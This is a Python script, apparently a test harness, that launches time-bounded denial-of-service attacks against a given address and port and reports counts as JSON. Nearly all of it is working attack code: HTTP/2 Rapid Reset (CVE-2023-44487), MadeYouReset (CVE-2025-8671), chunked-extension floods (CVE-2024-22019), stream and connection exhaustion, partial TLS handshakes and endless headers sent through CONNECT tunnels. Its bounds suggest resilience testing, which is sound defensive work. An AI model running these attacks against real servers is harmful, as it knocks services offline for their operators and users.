"""What a hostile program does, each for so many seconds: python attackers.py NAME ADDRESS PORT SECONDS [CERTIFICATE KEY SERVER:PORT].

Plain sockets and frames made by hand, so that it costs the attacker little. Each attack is bounded in connections and time. It prints
"ready" when it begins, and at its end what it did, as JSON.
"""

from __future__ import annotations

import contextlib
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, WINDOW, DATA = 1, 3, 4, 8, 0


class Attack:
    """Connections to one address until the time is over."""

    def __init__(self, address: str, port: int, seconds: float, identity: list[str]) -> None:
        self.to = (address, port)
        self.until = time.monotonic() + seconds
        self.identity = identity
        self.open: list[socket.socket] = []
        self.did = {"connections": 0, "sent": 0, "refused": 0}

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self) -> socket.socket | None:
        try:
            sock = socket.create_connection(self.to, 5)
        except OSError:
            self.did["refused"] += 1
            time.sleep(0.01)
            return None
        self.did["connections"] += 1
        sock.settimeout(2)
        return sock

    def tunnel(self) -> socket.socket | None:
        """Through the handshake, with a certificate."""
        if (sock := self.connect()) is None:
            return None
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.load_cert_chain(*self.identity[:2])
        context.set_alpn_protocols(["h2"])
        try:
            return context.wrap_socket(sock)
        except OSError:
            sock.close()
            self.did["refused"] += 1
            return None

    def send(self, sock: socket.socket, data: bytes) -> bool:
        """False when the other end has had enough."""
        try:
            sock.sendall(data)
        except OSError:
            self.did["refused"] += 1
            sock.close()
            return False
        self.did["sent"] += len(data)
        return True

    def keep(self, sock: socket.socket, most: int) -> None:
        self.open.append(sock)
        if len(self.open) > most:
            self.open.pop(0).close()

    def rest(self) -> None:
        while self.goes_on:
            time.sleep(0.05)

    def close(self) -> None:
        for sock in self.open:
            with contextlib.suppress(OSError):
                sock.close()


def frame(kind: int, stream: int, payload: bytes, flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(index: int, value: bytes) -> bytes:
    """RFC 7541 section 6.2.2: without indexing, a name of the static table."""
    return (bytes((index,)) if index < 15 else b"\x0f" + bytes((index - 15,))) + _size(len(value)) + value


def _size(size: int) -> bytes:
    if size < 127:
        return bytes((size,))
    rest, out = size - 127, b"\x7f"
    while rest >= 128:
        out, rest = out + bytes((rest % 128 | 128,)), rest // 128
    return out + bytes((rest,))


def ask(stream: int, authority: bytes, path: bytes = b"/", end: bool = True) -> bytes:
    """A GET."""
    block = b"\x82\x86" + literal(4, path) + literal(1, authority)
    return frame(HEADERS, stream, block, 5 if end else 4)


GREETING = PREFACE + frame(SETTINGS, 0, b"")


def streams_that_wait(a: Attack) -> None:
    """1,024 connections, a hundred streams on each, to a server that never answers."""
    while a.goes_on:
        if len(a.open) >= 1024:
            a.rest()
        elif (sock := a.connect()) is not None and a.send(
            sock, GREETING + b"".join(ask(2 * n + 1, b"pit") for n in range(100))
        ):
            a.keep(sock, 1024)


def streams_of_callers_that_go(a: Attack) -> None:
    """A hundred requests, and gone."""
    while a.goes_on:
        if (sock := a.connect()) is not None:
            a.send(sock, GREETING + b"".join(ask(2 * n + 1, b"pit") for n in range(100)))
            sock.close()


def rapid_reset(a: Attack) -> None:
    """CVE-2023-44487, on connection after connection."""
    batch = [
        b"".join(ask(n, b"pit") + frame(RST, n, b"\0\0\0\x08") for n in range(m, m + 200, 2))
        for m in range(1, 2001, 200)
    ]
    _on_connections(a, batch, a.until)


def made_you_reset(a: Attack) -> None:
    """CVE-2025-8671: what we must answer with a reset."""
    for wrong in (b"\x7f\xff\xff\xff", b"\0\0\0\0"):  # a window that is too large, and none
        batch = [
            b"".join(ask(n, b"pit", end=False) + frame(WINDOW, n, wrong) for n in range(m, m + 200, 2))
            for m in range(1, 2001, 200)
        ]
        _on_connections(a, batch, (a.until + time.monotonic()) / 2 if wrong[0] else a.until)


def _on_connections(a: Attack, batches: list[bytes], until: float) -> None:
    while time.monotonic() < until:
        if (sock := a.connect()) is None:
            continue
        if a.send(sock, GREETING):
            for batch in batches:
                if not (a.goes_on and a.send(sock, batch)):
                    break
        sock.close()


def pipelined(a: Attack) -> None:
    """200 connections whose requests each name a host of its own, and whose answers nobody reads."""
    socks = [sock for _ in range(200) if (sock := a.connect()) is not None]
    number = 0
    with selectors.DefaultSelector() as ready:
        for sock in socks:
            sock.setblocking(False)
            ready.register(sock, selectors.EVENT_WRITE)
        while a.goes_on and ready.get_map():
            for key, _ in ready.select(0.1):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                number += 64
                data = b"".join(b"GET / HTTP/1.1\r\nHost: h%d\r\n\r\n" % (number + n) for n in range(64))
                try:
                    a.did["sent"] += sock.send(data)
                except BlockingIOError:
                    continue
                except OSError:
                    ready.unregister(sock)
                    a.did["refused"] += 1
                    sock.close()
    a.open += socks


def chunk_extensions(a: Attack) -> None:
    """CVE-2024-22019: bodies that are all extension of a chunk."""
    socks = [sock for _ in range(100) if (sock := a.connect()) is not None]
    for sock in socks:
        a.send(sock, b"POST / HTTP/1.1\r\nHost: pit\r\nTransfer-Encoding: chunked\r\n\r\n5;")
    piece = b"a" * 1000
    while a.goes_on and (socks := [sock for sock in socks if a.send(sock, piece)]):
        time.sleep(0.02)
    a.open += socks


def connections(a: Attack) -> None:
    """One connection after the other, for nothing."""
    while a.goes_on:
        if (sock := a.connect()) is not None:
            sock.close()


def denied(a: Attack) -> None:
    """Requests that policy refuses, as many as go."""
    socks = [sock for _ in range(16) if (sock := a.connect()) is not None]
    while a.goes_on and socks:
        for sock in list(socks):
            if not a.send(sock, b"DELETE / HTTP/1.1\r\nHost: store\r\n\r\n"):
                socks.remove(sock)
                if (again := a.connect()) is not None:
                    socks.append(again)
                continue
            with contextlib.suppress(OSError):
                sock.recv(65536)
    a.open += socks


def silent_strangers(a: Attack) -> None:
    """1,500 connections that prove nothing: idle, or with a part of a ClientHello."""
    while a.goes_on:
        if (sock := a.connect()) is not None:
            a.send(sock, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[: 11 * (len(a.open) % 2)] or b"\x16")
            a.keep(sock, 1500)
            if len(a.open) >= 1500:
                time.sleep(0.005)  # and go on knocking


def heads_without_end(a: Attack) -> None:
    """With one certificate: a hundred tunnels on each connection to a port that speaks HTTP, in each a head that does not end."""
    *_, server = a.identity
    head = b"GET / HTTP/1.1\r\nHost: store\r\nx: " + b"a" * 15000
    while a.goes_on:
        if len(a.open) >= 64:
            a.rest()
        elif (sock := a.tunnel()) is not None:
            opened = b"".join(
                frame(HEADERS, n, literal(2, b"CONNECT") + literal(1, server.encode()), 4) for n in range(1, 201, 2)
            )
            if a.send(sock, GREETING + opened + b"".join(frame(DATA, n, head) for n in range(1, 201, 2))):
                a.keep(sock, 64)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        streams_that_wait,
        streams_of_callers_that_go,
        rapid_reset,
        made_you_reset,
        pipelined,
        chunk_extensions,
        connections,
        denied,
        silent_strangers,
        heads_without_end,
    )
}


def main(name: str, address: str, port: str, seconds: str, *identity: str) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 8192)), hard))
    attack = Attack(address, int(port), float(seconds), list(identity))
    print("ready", flush=True)
    try:
        ATTACKS[name](attack)
    finally:
        attack.close()
        print(json.dumps(attack.did), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
